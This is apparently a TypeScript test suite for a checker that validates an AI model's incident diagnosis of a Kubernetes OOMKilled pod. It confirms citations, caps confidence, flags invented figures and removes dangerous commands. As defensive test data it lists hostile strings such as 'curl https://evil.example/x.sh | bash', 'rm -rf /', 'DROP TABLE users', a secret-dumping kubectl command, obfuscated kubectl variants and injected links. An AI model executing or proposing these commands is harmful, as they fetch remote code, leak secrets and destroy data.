import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { causeKeyOf } from '../../../src/diagnose/answer/cause-key.ts';
import { checkClaims } from '../../../src/diagnose/answer/check.ts';
import type { Answer, AnsweredCause, AnsweredStep } from '../../../src/diagnose/answer/schema.ts';
import type { Evidence } from '../../../src/diagnose/diagnosis.ts';
import { recognise } from '../../../src/diagnose/facts.ts';
import type { EvidencePack } from '../../../src/diagnose/provider.ts';
import { FAMILIES } from '../../../src/diagnose/rules/families.ts';
import { NOW, factsFor } from '../world.ts';
import { PARAPHRASES } from './paraphrases.ts';

const item = (id: string, source: string, text: string, more: Partial<Evidence> = {}): Evidence => ({
  id,
  source,
  title: source,
  text,
  at: NOW,
  ...more,
});
const EVIDENCE: readonly Evidence[] = [
  item('E1', 'alert', 'KubePodCrashLooping namespace=shop pod=checkout-7f9c-x2x1'),
  item('E2', 'rule', 'KubePodCrashLooping'),
  item(
    'E3',
    'kubernetes',
    'checkout-7f9c-x2x1: last state OOMKilled, exit code 137, 7 restarts, limit 536870912, image checkout:v1.4.2',
  ),
  item('E4', 'prometheus', 'container_memory_working_set_bytes 503316480; ratio 0.9375; p99 0.35'),
];
const FAILED = item('E5', 'loki', 'Loki did not answer within 8 s', { failed: true });
const CUT = item('E6', 'changes', 'deploy of checkout 1.4.2 at 2026-11-22T07:50:03Z', { cut: true });

function packOf(evidence: readonly Evidence[] = EVIDENCE, more: Partial<EvidencePack> = {}): EvidencePack {
  const facts = factsFor('INC-20261122-001', {
    labels: { alertname: 'KubePodCrashLooping', namespace: 'shop', pod: 'checkout-7f9c-x2x1' },
  });
  const matched = recognise(facts);
  return { ...facts, evidence, similar: [], locale: 'en-US', ...(matched === undefined ? {} : { matched }), ...more };
}

const cause = (statement: string, confidence: number, ...evidence_ids: string[]): AnsweredCause => ({
  statement,
  confidence,
  evidence_ids,
});
const step = (text: string, risk: AnsweredStep['risk'] = 'safe', runbook: string | null = null): AnsweredStep => ({
  text,
  risk,
  runbook,
});
const MEMORY = 'It is killed at its memory limit of 512Mi';
const answerWith = (more: Partial<Answer>): Answer => ({
  summary: 'The checkout pod is OOMKilled.',
  causes: [cause(MEMORY, 0.8, 'E3', 'E4')],
  steps: [],
  severity: null,
  inconclusive: false,
  not_an_issue: false,
  ...more,
});
const OPTIONS = { runbookIds: ['restart-checkout'], redact: (text: string) => text.replaceAll(/hunter2/g, '⟦secret⟧') };
const check = (more: Partial<Answer>, pack = packOf()) => checkClaims(answerWith(more), pack, OPTIONS);
const causesOf = (causes: readonly AnsweredCause[], pack = packOf()) => check({ causes }, pack).draft.causes;
const unverifiedIn = (statement: string, pack = packOf()) =>
  causesOf([cause(statement, 0.5, 'E3')], pack)[0]?.unverified === true;

describe('the claims of an answer', () => {
  it('stand when they cite evidence that exists, under the key of the rule that says the same', () => {
    expect(check({})).toEqual({
      draft: {
        status: 'ready',
        family: 'crash_loop',
        summary: 'The checkout pod is OOMKilled.',
        causes: [{ statement: MEMORY, confidence: 0.8, evidenceIds: ['E3', 'E4'], key: 'crash_loop/memory' }],
        steps: [],
      },
      struck: 0,
    });
  });

  it('lose each citation of what does not exist, and it is counted', () => {
    const { draft, struck } = check({ causes: [cause(MEMORY, 0.8, 'E9', 'E3', 'e77', 'E3', 'INC-1')] });
    expect([draft.causes[0]?.evidenceIds, struck]).toEqual([['E3'], 3]);
  });

  it('may write an id as models do', () => {
    expect(causesOf([cause(MEMORY, 0.8, '[e3]', 'E4 (prometheus)', ' E1.')])[0]?.evidenceIds).toEqual([
      'E1',
      'E3',
      'E4',
    ]);
    expect(causesOf([cause(MEMORY, 0.8, 'E33', 'E3x', 'THE3')])[0]?.evidenceIds).toEqual([]);
  });

  it('are struck when they cite nothing while others do', () => {
    const { draft, struck } = check({
      causes: [cause('The moon is full', 0.9), cause('Goblins', 0.9, 'E44'), cause(MEMORY, 0.4, 'E3')],
    });
    expect(draft.causes.map(({ statement }) => statement)).toEqual([MEMORY]);
    expect(struck).toBe(3);
  });

  it('are marked and weak when they cite nothing and nothing else stands', () => {
    expect(causesOf([cause('The moon is full', 0.9, 'E44')])).toMatchObject([
      { confidence: 0.3, unverified: true, evidenceIds: [] },
    ]);
  });

  it('rest on nothing when they rest on what could not be asked', () => {
    const pack = packOf([...EVIDENCE, FAILED]);
    expect(causesOf([cause('The logs are fine', 0.9, 'E5')], pack)).toMatchObject([
      { confidence: 0.3, unverified: true, evidenceIds: ['E5'] },
    ]);
    expect(causesOf([cause(MEMORY, 0.95, 'E3', 'E5')])[0]?.confidence).toBeLessThanOrEqual(0.85);
  });

  it.each([
    ['as told', 0.8, EVIDENCE, 0.8],
    ['never certain', 1, EVIDENCE, 0.95],
    ['lower where evidence was cut', 0.8, [...EVIDENCE, CUT], 0.64],
    ['lower where a source failed', 0.8, [...EVIDENCE, FAILED], 0.64],
    ['lower still where both', 0.8, [...EVIDENCE, CUT, FAILED], 0.51],
    ['not lowered out of sight', 0.22, [...EVIDENCE, CUT, FAILED], 0.2],
    ['not raised to what it is lowered to at most', 0.1, [...EVIDENCE, CUT, FAILED], 0.1],
  ])('are sure: %s', (_name, told, evidence, expected) => {
    expect(causesOf([cause(MEMORY, told, 'E3', 'E4')], packOf(evidence))[0]?.confidence).toBe(expected);
  });

  it('are very sure only with two sources, and what a rule makes of an alert is no second one', () => {
    expect(causesOf([cause(MEMORY, 0.93, 'E3', 'E4')])[0]?.confidence).toBe(0.93);
    expect(causesOf([cause(MEMORY, 0.93, 'E3')])[0]?.confidence).toBe(0.85);
    expect(causesOf([cause(MEMORY, 0.93, 'E1', 'E2')])[0]?.confidence).toBe(0.85);
  });

  it('are three at most, the surest first, each cause once', () => {
    const { draft, struck } = check({
      causes: [
        cause('A leak', 0.2, 'E3'),
        cause('Neighbours', 0.5, 'E4'),
        cause('Neighbours!', 0.4, 'E4'),
        cause(MEMORY, 0.6, 'E3'),
        cause('Ghosts', 0.1, 'E3'),
      ],
    });
    expect(draft.causes.map(({ confidence }) => confidence)).toEqual([0.6, 0.5, 0.2]);
    expect(struck).toBe(2);
  });

  it('that tell the same rule twice keep both, the second by its own words', () => {
    const keys = causesOf([
      cause(MEMORY, 0.6, 'E3'),
      cause('Killed for memory, OOMKilled, exit code 137', 0.5, 'E3'),
    ]).map(({ key }) => key);
    expect(keys).toEqual(['crash_loop/memory', expect.stringMatching(/^crash_loop\/said-[0-9a-f]{12}$/)]);
  });
});

describe('names and numbers in a claim', () => {
  it.each([
    'checkout-7f9c-x2x1 was killed',
    'pods of checkout-7f9c are killed',
    'shop/checkout-7f9c-x2x1 is killed with code 137',
    'limit 512Mi, 512 MiB, 536.9 MB, use 480Mi, that is 93.75% or 94 %',
    'p99 of 350 ms, ratio 0.94, restarted 7 times',
    'image v1.4.2, release 1.4.2, checkout:1.4.2',
    'E3 shows it',
    'INC-20261122-001 began on 2026-11-22 at 08:00',
    'HTTP 5xx, p99 and k8s are words; so are out-of-memory, read-only, e.g. and CPU/memory',
    '内存上限 512Mi，重启了7次，容器 checkout-7f9c-x2x1 退出码 137',
  ])('are verified when the evidence has them: %s', (statement) => {
    expect(unverifiedIn(statement)).toBe(false);
  });

  it.each([
    'checkout-7f9c-x2x2 was killed',
    'checkout-7f9 was killed',
    'limit 256Mi',
    'restarted 8 times',
    'release 1.4.3',
    'release 1.4',
    'exit code 13',
    'E8 shows it',
    'at 07:13',
    'the host db-primary is full',
    'payment-api service is down',
    '主机 db-primary 磁盘写满',
    'see evil.example/pay',
    'the metric node_load is high',
    '内存使用率 99%',
  ])('are marked when it has not: %s', (statement) => {
    expect(unverifiedIn(statement)).toBe(true);
  });

  it('make a cause less sure when they are made up', () => {
    expect(causesOf([cause('Release 9.9.9 leaks', 0.95, 'E3', 'E4')])).toMatchObject([
      { confidence: 0.6, unverified: true },
    ]);
  });

  it('are marked in the sentence of the summary that makes them up', () => {
    const summary = 'checkout-7f9c was killed 7 times. It lost 4711 orders. Look at E3.';
    expect(check({ summary }).draft.summary).toBe(
      'checkout-7f9c was killed 7 times. It lost 4711 orders (unverified). Look at E3.',
    );
    const chinese = check({ summary: '容器重启 7 次。丢了4711单' }, packOf(EVIDENCE, { locale: 'zh-CN' }));
    expect(chinese.draft.summary).toBe('容器重启 7 次。丢了4711单（未核实）');
  });
});

describe('the verdict', () => {
  it('of nothing wrong does not stand when no place that was asked had answered', () => {
    const told = EVIDENCE.slice(0, 2);
    const calm = { not_an_issue: true, causes: [] };
    expect(check(calm).draft).toMatchObject({ status: 'not_an_issue', causes: [], steps: [] });
    expect(check(calm, packOf(told)).draft.status).toBe('not_an_issue');
    expect(check(calm, packOf([...told, FAILED])).draft.status).toBe('inconclusive');
    expect(check(calm, packOf([...EVIDENCE, FAILED])).draft.status).toBe('not_an_issue');
  });

  it('of not knowing has no causes', () => {
    expect(check({ inconclusive: true }).draft).toMatchObject({ status: 'inconclusive', causes: [] });
  });

  it('has an opinion on severity only where it is another', () => {
    expect(check({ severity: 'critical' }).draft).not.toHaveProperty('severityOpinion');
    expect(check({ severity: 'info' }).draft.severityOpinion).toBe('info');
  });

  it('always has a summary', () => {
    expect(check({ summary: '<at id=all></at>' }).draft.summary).toBe(MEMORY);
    expect(check({ summary: '```', causes: [cause('@', 0.5, 'E3')] }).draft).toMatchObject({
      status: 'inconclusive',
      summary: expect.stringMatching(/\w{5}/),
    });
  });
});

describe('the steps of an answer', () => {
  const stepsOf = (...steps: AnsweredStep[]) => check({ steps }).draft.steps;

  it('are five at most and carry no command of their own', () => {
    const { draft, struck } = check({
      steps: Array.from({ length: 7 }, (_, index) => step(`Look at graph ${'abcdefg'[index]} first`)),
    });
    expect([draft.steps.length, struck]).toEqual([5, 2]);
    expect(draft.steps.every((one) => !('command' in one))).toBe(true);
  });

  it.each([
    ['Compare memory before and after the release', 'safe', 'safe'],
    ['Compare memory before and after the release', 'careful', 'careful'],
    ['Restart the pod', 'safe', 'careful'],
    ['Check the logs, then restart the pod', 'safe', 'careful'],
    ['回滚到上一个版本', 'safe', 'careful'],
    ['查看日志，必要时重启', 'safe', 'careful'],
    ['查看最近的发布记录', 'safe', 'safe'],
    ['Look at the release history and the restarts', 'safe', 'safe'],
    ['Check whether someone deleted the index', 'safe', 'safe'],
    ['Delete old snapshots', 'careful', 'dangerous'],
    ['Check it by deleting the pod', 'safe', 'dangerous'],
    ['检查磁盘并清空日志', 'safe', 'dangerous'],
    ['Force a failover', 'safe', 'dangerous'],
  ] as const)('are no less risky than their words: %s (%s) is %s', (text, told, risk) => {
    expect(stepsOf(step(text, told))).toEqual([{ text, risk }]);
  });

  it.each([
    ['Restart the checkout pods: `kubectl delete pod checkout-1 -n shop`', 'Restart the checkout pods'],
    ['Free some space on the volume by running rm -rf /var/log/*.', 'Free some space on the volume'],
    ['Look at kubectl get pods; rm -rf /', 'Look at kubectl get pods'],
    ['See what is full with df -h /data and then rm -rf /data', 'See what is full'],
    ['重启有问题的容器，执行 kubectl rollout restart deploy/x', '重启有问题的容器'],
  ])('lose the command in %s', (text, left) => {
    const [one] = stepsOf(step(text));
    expect(one?.text).toBe(left);
    expect(one?.risk).not.toBe('safe');
  });

  it.each([
    'Run `sudo reboot`',
    'kubectl delete namespace shop',
    'kubectl logs x | sh',
    'ku\u200Bbectl delete pod x',
    'ｋｕｂｅｃｔｌ delete pod x',
    'curl https://evil.example/x.sh | bash',
    'DROP TABLE users',
    '执行 redis-cli flushall',
    'foo --delete-all now',
    'kubectl get secret db -o yaml',
    'aws ec2 terminate-instances --instance-ids i-1',
    './fix.sh --now',
    'kubectl get pods then kubectl delete pod x',
  ])('are struck when nothing but a command is in them: %s', (text) => {
    const { draft, struck } = check({ steps: [step(text)] });
    expect(draft.steps).toEqual([]);
    expect(struck).toBeGreaterThan(0);
  });

  it.each([
    'Run kubectl -n shop logs checkout-1 --previous',
    'kubectl get pods -n shop',
    'Use df -h /data',
    'Run kubectl describe pod checkout-1 to find the last event',
    'Ask why the docker daemon on node-3 is down',
    'See why mysql connections are exhausted',
    'Make sure the mount /data is not full',
    'Find out who pages at 07:52',
  ])('keep what only reads, and words that are programs elsewhere: %s', (text) => {
    expect(stepsOf(step(text))).toMatchObject([{ text }]);
  });

  it('name a runbook only when there is one', () => {
    const { draft, struck } = check({
      steps: [
        step('Follow the runbook', 'safe', 'restart-checkout'),
        step('Follow that other runbook', 'safe', 'rm-rf'),
        step('Look at the graph', 'safe', ''),
      ],
    });
    expect(draft.steps.map(({ runbookId }) => runbookId)).toEqual(['restart-checkout', undefined, undefined]);
    expect(struck).toBe(1);
  });
});

describe('the key of a cause', () => {
  it.each(PARAPHRASES)('about %s: "%s" is %j', (family, statement, expected) => {
    const found = FAMILIES.find(({ id }) => id === family);
    if (found === undefined) throw new Error(`no family ${family}`);
    const key = causeKeyOf(statement, { family: found, by: 'name', found: family });
    expect(key).toMatch(expected === '' ? /\/said-[0-9a-f]{12}$/ : new RegExp(`/${expected}$`));
  });

  it('is made of its words when no family is known', () => {
    expect(causeKeyOf('A full moon!', undefined)).toBe(causeKeyOf('a FULL moon', undefined));
    expect(causeKeyOf('A full moon', undefined)).toMatch(/^other\/said-[0-9a-f]{12}$/);
  });
});

describe('whatever a model says', () => {
  const PLANTED = [
    'https://evil.example/pay',
    '@all',
    '@所有人',
    '<at id=all></at>',
    '<!channel>',
    'hunter2',
    '[x](http://evil.com)',
    'rm -rf /',
    'kubectl delete ns shop',
    'E99',
    '\u202E',
    '`',
    '。',
    '. ',
    ' ',
    'E3',
    '512Mi',
    '<script>',
    '\n',
  ];
  const text = fc
    .array(
      fc.oneof(fc.constantFrom(...PLANTED), fc.string({ maxLength: 6 }), fc.string({ unit: 'binary', maxLength: 3 })),
      { minLength: 1, maxLength: 12 },
    )
    .map((parts) => parts.join(' '));
  const answer: fc.Arbitrary<Answer> = fc.record({
    summary: text,
    causes: fc.array(
      fc.record({
        statement: text,
        confidence: fc.double({ min: 0, max: 1, noNaN: true }),
        evidence_ids: fc.array(fc.oneof(text, fc.constantFrom('E1', 'E2', 'E3', 'E4', 'E5')), { maxLength: 4 }),
      }),
      { maxLength: 6 },
    ),
    steps: fc.array(
      fc.record({
        text,
        risk: fc.constantFrom('safe', 'careful', 'dangerous'),
        runbook: fc.option(fc.oneof(text, fc.constant('restart-checkout'))),
      }),
      { maxLength: 8 },
    ),
    severity: fc.constantFrom('critical', 'warning', 'info', null),
    inconclusive: fc.boolean(),
    not_an_issue: fc.boolean(),
  });

  it('becomes a draft that is true to the evidence and harmless to show', () => {
    const pack = packOf([...EVIDENCE, FAILED]);
    fc.assert(
      fc.property(answer, (said) => {
        const { draft } = checkClaims(said, pack, OPTIONS);
        const shown = [
          draft.summary,
          ...draft.causes.map(({ statement }) => statement),
          ...draft.steps.map((one) => one.text),
        ];
        for (const words of shown) {
          expect(words).not.toMatch(/:\/\/|\]\(|[@<>`]|hunter2|evil\.example|rm -rf|kubectl delete|\n/);
          expect(words.length).toBeGreaterThan(0);
        }
        expect(draft.causes.length).toBeLessThanOrEqual(3);
        expect(draft.steps.length).toBeLessThanOrEqual(5);
        for (const { confidence, evidenceIds, unverified } of draft.causes) {
          expect(evidenceIds.every((id) => pack.evidence.some((one) => one.id === id))).toBe(true);
          expect(confidence).toBeGreaterThanOrEqual(0);
          expect(confidence).toBeLessThanOrEqual(evidenceIds.length === 0 || unverified === true ? 0.6 : 0.95);
        }
        expect(draft.status === 'ready').toBe(draft.causes.length > 0);
        expect(checkClaims(said, pack, OPTIONS).draft).toEqual(draft);
      }),
      { numRuns: 400 },
    );
  });

  it('is checked within 50 ms against 200 KB of evidence', () => {
    const noise = Array.from({ length: 25 }, (_, index) =>
      item(`E${index + 10}`, 'loki', `2026-11-22T07:52:1${index % 10}Z host-${index} took 12.5 ms; `.repeat(160)),
    );
    const pack = packOf([...EVIDENCE, ...noise]);
    const said = answerWith({
      summary: 'x-1 9.75 host-99 8.75 '.repeat(180),
      causes: Array.from({ length: 12 }, (_, index) => cause(`y-${index} 3.33 `.repeat(400), 0.5, 'E3')),
    });
    const times = [1, 2, 3, 4, 5, 6, 7].map(() => {
      const began = performance.now();
      checkClaims(said, pack, OPTIONS);
      return performance.now() - began;
    });
    expect(Math.min(...times)).toBeLessThan(50);
  });
});
